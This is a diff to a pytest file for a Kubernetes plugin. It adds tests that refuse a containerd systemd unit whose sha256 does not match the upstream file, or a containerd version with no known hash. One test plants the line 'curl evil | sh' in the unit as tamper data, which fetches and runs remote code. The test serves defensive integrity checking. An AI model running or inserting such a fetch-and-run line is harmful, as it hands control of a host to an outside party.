@@ -1,13 +1,19 @@
 """Work on the machine running cfy: package index, CNI manifest, local kubeconfig."""
+import dataclasses
 import gzip
+import hashlib
 import os
 import stat
 import time
+from pathlib import Path
 
 import pytest
 
 from kub_plugin import local
 from kub_plugin.config import ClusterSettings, ConfigError
+
+# upstream's containerd.service of v2.1.9, as the lab serves it
+UPSTREAM_UNIT = Path(__file__).parents[2] / "lab" / "kub_lab" / "upstream" / "containerd.service"
 
 INDEX = """Package: kubeadm
 Version: 1.31.1-1.1
@@ -239,7 +245,7 @@ def release_mirror(tmp_path):
     (r / "runc.amd64").write_bytes(b"runc")
     (r / "runc.sha256sum").write_text(f"{hashlib.sha256(b'other').hexdigest()} *runc.arm64\n"
                                       f"{hashlib.sha256(b'runc').hexdigest()} *runc.amd64\n")
-    (c / "containerd.service").write_text("[Unit]\n[Service]\nExecStart=/usr/local/bin/containerd\n")
+    (c / "containerd.service").write_bytes(UPSTREAM_UNIT.read_bytes())
     local._cache.clear()
     yield ClusterSettings(containerd_url=f"file://{tmp_path}/containerd/v{{version}}/containerd-{{version}}-linux-"
                                          f"{{arch}}.tar.gz",
@@ -267,9 +273,29 @@ def test_an_architecture_the_sums_do_not_list_is_refused(release_mirror):
     cluster, folder = release_mirror
     with pytest.raises(ConfigError, match="cannot download .*arm64.tar.gz"):
         local.containerd_release(cluster, "arm64")
-    (folder / "containerd.service").write_text("not a unit")
-    with pytest.raises(ConfigError, match="is not a systemd unit"):
+
+
+def test_a_unit_that_is_not_upstreams_is_refused_naming_its_url_and_sums(release_mirror):
+    cluster, folder = release_mirror
+    unit = folder / "containerd.service"
+    tampered = unit.read_text().replace("ExecStartPre=", "ExecStartPre=/bin/sh -c 'curl evil | sh'\nExecStartPre=")
+    unit.write_text(tampered)
+    found = hashlib.sha256(tampered.encode()).hexdigest()
+    with pytest.raises(ConfigError) as refused:
         local.containerd_release(cluster, "amd64")
+    assert str(refused.value) == (
+        f"file://{folder}/containerd.service has sha256 {found}, not "
+        f"1941362cbaa89dd591b99c32b050d82c583d3cd2e5fa63085d7017457ec5fca8, that of containerd 2.1.9's upstream unit: "
+        f"point cluster.containerd_unit_url at upstream's containerd.service of v2.1.9 (or a mirror that serves it "
+        f"unchanged)")
+
+
+def test_a_containerd_release_whose_unit_kub_has_no_sum_for_is_refused(release_mirror):
+    cluster, _ = release_mirror
+    with pytest.raises(ConfigError, match=r"^kub knows no sha256 of containerd 2\.9\.0's systemd unit \(only of "
+                                          r"1\.7\.0-1\.7\.34, 2\.0\.0-2\.0\.11, 2\.1\.0-2\.2\.7\): set "
+                                          r"cluster\.containerd_version to one of those$"):
+        local.containerd_release(dataclasses.replace(cluster, containerd_version="2.9.0"), "amd64")
 
 
 def test_downloads_are_shared_within_a_run_and_fetched_again_once_old(repository, tmp_path, monkeypatch):
